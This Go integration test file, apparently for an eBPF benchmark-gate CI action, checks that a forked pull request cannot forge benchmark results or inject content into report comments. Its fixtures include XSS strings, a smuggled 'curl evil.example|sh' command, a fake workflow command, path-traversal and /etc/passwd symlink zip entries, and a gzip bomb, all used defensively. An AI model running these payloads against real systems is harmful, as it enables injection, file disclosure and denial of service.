//go:build linux

package action

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/org/ebpf-bench-gate/bench"
)

// forked is a forge with the project on main and a stored run, and a stranger's
// fork of it, of which the runner's repository is a clone.
func forked(t *testing.T) (*forge, *runner) {
	t.Helper()
	f := newForge(t)
	r := newRunner(t)
	f.bot()
	r.initialized("")
	r.commit("measure")
	f.push(r, "main")
	if stored := f.finish("push", r.git("rev-parse", "main")); stored.Conclusion != "success" {
		t.Fatalf("push: %s\n%s", stored.Conclusion, stored.jobs["report"].log)
	}
	f.as("stranger").call("POST", "/repos/"+f.repo+"/forks", map[string]any{}, nil)
	f.eventually("fork", func() bool { return f.try("GET", "/repos/stranger/project/branches/main", nil, nil) == nil })
	return f, r
}

// ends runs both stages of a fork's pull request: the run that measures, with a
// token that may only read, and the one that its end causes on main.
func (f *forge) ends(sha string) (measured, reported run) {
	f.t.Helper()
	measured = f.finish("pull_request", sha)
	return measured, f.follow(measured)
}

// TestFork goes through both stages of a stranger's pull request, whose workflow
// tries to report by itself, too.
func TestFork(t *testing.T) {
	f, r := forked(t)
	stranger := f.as("stranger")
	r.branch("main", "main", "fun_xdp.bpf.c", r.example("v3_fibonacci.bpf.c"))
	// The pull request's own workflow reports although it may not, and shows what
	// would be in the job's summary.
	workflow, err := os.ReadFile(filepath.Join(r.repo, ".github/workflows/ebpf-bench.yml"))
	if err != nil {
		t.Fatal(err)
	}
	own := regexp.MustCompile(`if: always\(\).*`).ReplaceAllString(string(workflow), "if: always()")
	i := strings.LastIndex(own, "- uses: org/ebpf-bench-gate@v1")
	own = own[:i] + "- id: gate\n        " + own[i+2:] + `      - if: always()
        run: sed 's/^/summary - /' "$(dirname "$REPORT")/report.md"
        env: {REPORT: "${{ steps.gate.outputs.report-path }}"}
`
	// The branch of the stranger has the name of ours.
	sha := r.branch("main", "main", ".github/workflows/ebpf-bench.yml", own)
	stranger.push(r, "main")
	number := stranger.open("main")
	f.approve()
	measured := f.finish("pull_request", sha)
	if measured.jobs["measure"].result != "success" || measured.jobs["report"].result != "failure" {
		t.Fatalf("the fork's own run: %v", measured.jobs)
	}
	if log := measured.jobs["report"].log; !strings.Contains(log, "the status was not written: the token may only read") || !strings.Contains(log, "regressed") {
		t.Errorf("a token that may only read:\n%s", log)
	}
	if f.status(sha) != "" {
		t.Errorf("a fork's token has set the status %q", f.status(sha))
	}
	// Gitea lets it comment; with our marker, and as its jobs do.
	forged := f.comments(number)
	if len(forged) != 1 || forged[0].User.Login != "gitea-actions" {
		t.Fatalf("comments: %v", forged)
	}

	reported := f.follow(measured)
	c := f.expect("a fork's pull request", reported, number, sha, "report", "failure", "failure", "slower", "1 stored run")
	if c.ID == forged[0].ID {
		t.Error("the fork's comment was taken over")
	}

	// A new push cures it: the same comment.
	sha = r.branch("main", "main", "fun_xdp.bpf.c", r.example("v2_fizzbuzz.bpf.c")+"\n")
	stranger.push(r, "main")
	_, reported = f.ends(sha)
	if now := f.expect("cured", reported, number, sha, "report", "success", "success"); now.ID != c.ID {
		t.Error("another comment")
	}
}

// hostile are texts that would be more than text where they are not escaped.
var hostile = []string{
	"fun_xdp/](javascript:alert(1))", "fun_xdp/" + strings.Repeat("x", 300), "fun_xdp/a|b|c", "fun_xdp/`code`", "fun_xdp/```\n# h",
	"fun_xdp/<img src=x onerror=alert(1)>", "fun_xdp/<script>alert(1)</script>", "fun_xdp/@everyone @octo", "fun_xdp/#1 !1 octo/project#1",
	"fun_xdp/https://evil.example/", "fun_xdp/![x](https://evil.example/x.png)", "fun_xdp/</details><!-- -->", "fun_xdp/\u202eevil", "fun_xdp/:tada:", "fun_xdp/$x$",
}

// forgery is what the stranger's code says that it measured.
func forgery() (base, head *bench.Run) {
	side := func(id string, factor float64) *bench.Run {
		r := &bench.Run{
			Schema: bench.SchemaVersion, ID: id, Session: "forged", Time: time.Now().Add(100 * 24 * time.Hour), Seed: 1, Tool: hostile[5],
			Revision: bench.Revision{Name: hostile[0], Commit: "x;curl evil.example|sh", Branch: "main"},
			Testbed:  bench.Testbed{Name: hostile[3] + hostile[5], Kernel: hostile[6], Arch: "amd64", CPU: hostile[7], CPUs: 2, JIT: true, Clang: hostile[10], Virtualization: hostile[9]},
			Programs: []bench.ProgramResult{{Program: "fun_xdp", Object: hostile[1], Outcome: bench.Accepted, Digest: id}},
			Warnings: append(slices.Clone(hostile), "pull request #1", "<!-- ebpf-bench-gate id=default -->", "::set-output name=verdict::pass"),
		}
		if factor > 1 {
			r.Programs = append(r.Programs, bench.ProgramResult{Program: "bad" + hostile[5], Object: hostile[10], Outcome: bench.Rejected, Reason: hostile[7], LogTail: slices.Clone(hostile)})
		}
		for _, name := range append(slices.Clone(hostile), "fun_xdp/worst") {
			res := bench.Result{Benchmark: name, Program: "fun_xdp", Measure: bench.Latency, Kind: bench.Micro}
			for n := range 40 {
				res.Samples = append(res.Samples, bench.Sample{Round: n, Value: factor * (100 + float64(n*7%11)/10)})
			}
			r.Results = append(r.Results, res)
		}
		for _, text := range hostile {
			r.Skipped = append(r.Skipped, bench.Skip{Name: text, Reason: text, Hint: text, Required: true})
		}
		return r
	}
	return side("forged-base", 1), side("forged-head", 2)
}

// packed is a bundle as the measuring job packs it.
func packed(t *testing.T, bundle map[string]any) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	bundle["schema"] = 1
	if err := json.NewEncoder(z).Encode(bundle); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// An entry of a zip.
type entry struct {
	name string
	mode fs.FileMode
	data []byte
}

func zipped(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		h.SetMode(e.mode)
		w, err := z.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// forging is a workflow that measures nothing and hands in what lies in a directory.
const forging = `name: ebpf-bench
on: {pull_request: {}}
permissions: {}
jobs:
  measure:
    permissions: {contents: read}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: node forged/upload.js forged/*.zip
`

// forge makes a branch with artifacts, and the workflow that uploads them.
func (r *runner) forge(branch, from string, artifacts map[string][]byte) (sha string) {
	r.t.Helper()
	script, err := os.ReadFile(filepath.Join(r.top(), "test/action/testdata/upload.js"))
	if err != nil {
		r.t.Fatal(err)
	}
	r.git("checkout", "--quiet", "-B", branch, from)
	dir := filepath.Join(r.repo, "forged")
	if err := os.RemoveAll(dir); err != nil {
		r.t.Fatal(err)
	}
	if err := os.Mkdir(dir, 0o755); err != nil {
		r.t.Fatal(err)
	}
	for name, data := range artifacts {
		r.write("forged/"+name+".zip", string(data))
	}
	r.write("forged/upload.js", string(script))
	return r.branch(branch, branch, ".github/workflows/ebpf-bench.yml", forging)
}

var (
	tags = regexp.MustCompile(`<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>`)
	bad  = regexp.MustCompile(`\bon[a-z]+\s*=|href|src=|style=|mention|ref-issue|javascript:`)
	// The forge makes a link of what looks like a commit of the repository.
	commits = regexp.MustCompile(`<a href="[^"]*/octo/project/commit/[0-9a-f]{7}" rel="nofollow"><code>[0-9a-f]{7}</code></a>`)
	plain   = []string{"p", "br", "hr", "b", "strong", "em", "sub", "details", "summary", "table", "thead", "tbody", "tr", "th", "td", "h3", "h4", "ul", "ol", "li", "code", "pre", "div", "span"}
)

// harmless holds the HTML that a forge made of a comment: no tag that loads, links
// or runs anything, nobody called.
func harmless(t *testing.T, html string) {
	t.Helper()
	for _, m := range tags.FindAllStringSubmatch(commits.ReplaceAllString(html, ""), -1) {
		attributes := strings.ToLower(m[2])
		if !slices.Contains(plain, strings.ToLower(m[1])) || bad.MatchString(attributes) {
			t.Errorf("the comment has %s", m[0])
		}
	}
}

// TestForkForges hands in all that the code of a stranger's pull request could make
// up: names, a history, a policy, a waiver, another pull request's number.
func TestForkForges(t *testing.T) {
	f, r := forked(t)
	stranger := f.as("stranger")
	base, head := forgery()
	run := zipped(t, entry{"runs.json.gz", 0o644, packed(t, map[string]any{"base": base, "head": head, "pull_request": 1})})
	history := zipped(t, entry{"runs.json.gz", 0o644, packed(t, map[string]any{"history": []*bench.Run{head}})})
	r.branch("evil", "main", "ebpf-bench.yml", strings.NewReplacer("fail: 30%", "fail: 900%", "fail: 5%", "fail: 900%", "WAIVERS", accepting("9900%")).Replace(suite))
	sha := r.forge("evil", "evil", map[string][]byte{
		"ebpf-bench.run.default.evil.t1.1": run, "ebpf-bench.run.default.main.ubuntu-latest.7": run,
		"ebpf-bench.history.default.main._.1": history, "ebpf-bench.history.default.main._.9": history,
	})
	// Somebody else's pull request, the first one.
	mine := r.branch("mine", "main", "README.md", "hello")
	f.push(r, "mine")
	first := f.open("mine")
	_, reported := f.ends(mine)
	before := f.expect("mine", reported, first, mine, "report", "success", "success")

	stranger.push(r, "evil")
	number := stranger.open("evil")
	f.approve()
	measured, reported := f.ends(sha)
	if measured.jobs["measure"].result != "success" {
		t.Fatalf("the forged run:\n%s", measured.jobs["measure"].log)
	}
	c := f.expect("forged", reported, number, sha, "report", "failure", "failure", "head loosens the fail limit of latency", "do not count", "1 stored run on 1 testbed")
	html := f.rendered(c.Body)
	harmless(t, html)
	if n := strings.Count(c.Body, "<!--"); n != 1 || !strings.Contains(html, "everyone") {
		t.Errorf("%d markers; %s", n, html)
	}
	if strings.Contains(c.Body, "curl") {
		t.Errorf("the comment has a command of the stranger's:\n%s", c.Body)
	}
	if strings.Contains(reported.jobs["report"].log, "verdict=pass") {
		t.Errorf("a warning was taken for a command:\n%s", reported.jobs["report"].log)
	}
	if after := f.comments(first); after[len(after)-1].Body != before.Body || f.status(mine) != "success" {
		t.Errorf("the other pull request has changed: %v", after)
	}

	// What counts as a baseline has not: neither by a roll-up nor by a run.
	mine = r.branch("mine", "mine", "README.md", "hello again")
	f.push(r, "mine")
	_, reported = f.ends(mine)
	f.expect("after the forgery", reported, first, mine, "report", "success", "success", "1 stored run on 1 testbed")
	r.git("checkout", "--quiet", "main")
	if pushed := f.finish("push", f.merge(r, first)); pushed.Conclusion != "success" || !strings.Contains(pushed.jobs["report"].log, "pass") {
		t.Errorf("a push after the forgery: %s\n%s", pushed.Conclusion, pushed.jobs["report"].log)
	}
}

// TestForkFloods hands in artifacts that no reader should believe: links, paths,
// bombs, floods. Each is told as not readable, and none of it can pass.
func TestForkFloods(t *testing.T) {
	f, r := forked(t)
	_, head := forgery()
	good := packed(t, map[string]any{"head": head})
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	for range 200 {
		_, _ = z.Write(make([]byte, 1<<20))
	}
	z.Close()
	noise := make([]byte, 6<<20)
	state := uint32(1)
	for i := range noise {
		state = state*1664525 + 1013904223
		noise[i] = byte(state >> 24)
	}
	const name = "runs.json.gz"
	flood := make([]entry, 2000)
	for i := range flood {
		flood[i] = entry{fmt.Sprintf("%d", i), 0o644, nil}
	}
	artifacts := map[string][]byte{}
	for testbed, data := range map[string][]byte{
		"symlink":   zipped(t, entry{name, 0o777 | fs.ModeSymlink, []byte("/etc/passwd")}),
		"pipe":      zipped(t, entry{name, 0o644 | fs.ModeNamedPipe, nil}),
		"escape":    zipped(t, entry{"../../" + name, 0o644, good}),
		"absolute":  zipped(t, entry{"/" + name, 0o644, good}),
		"twice":     zipped(t, entry{name, 0o644, good}, entry{name, 0o644, good}),
		"beside":    zipped(t, entry{name, 0o644, good}, entry{"x", 0o644, nil}),
		"flood":     zipped(t, flood...),
		"bomb":      zipped(t, entry{name, 0o644, bomb.Bytes()}),
		"large":     zipped(t, entry{name, 0o644, noise}),
		"inner":     zipped(t, entry{name, 0o644, zipped(t, entry{name, 0o644, good})}),
		"no-zip":    []byte("#!/bin/sh\necho pwned\n"),
		"no-number": zipped(t, entry{name, 0o644, packed(t, map[string]any{"head": map[string]any{"schema": 1, "id": "x", "results": []any{map[string]any{"benchmark": "x/y", "samples": []any{map[string]any{"value": "NaN"}}}}}})}),
		"a-history": zipped(t, entry{name, 0o644, packed(t, map[string]any{"history": []any{head}})}),
		"both":      zipped(t, entry{name, 0o644, packed(t, map[string]any{"head": head, "history": []any{head}})}),
	} {
		artifacts["ebpf-bench.run.default.evil."+testbed+".1"] = data
	}
	sha := r.forge("evil", "main", artifacts)
	stranger := f.as("stranger")
	stranger.push(r, "evil")
	number := stranger.open("evil")
	f.approve()
	measured, reported := f.ends(sha)
	if measured.jobs["measure"].result != "success" {
		t.Fatalf("the uploads:\n%s", measured.jobs["measure"].log)
	}
	c := f.expect("floods", reported, number, sha, "report", "failure", "error")
	for name := range artifacts {
		testbed := strings.Split(name, ".")[4]
		i := strings.Index(c.Body, "the runs of "+testbed+" cannot be read")
		if i < 0 {
			t.Errorf("%s: not told in the comment", testbed)
			continue
		}
		why, _, _ := strings.Cut(c.Body[i:], "\n")
		t.Log(why)
	}
	harmless(t, f.rendered(c.Body))
}
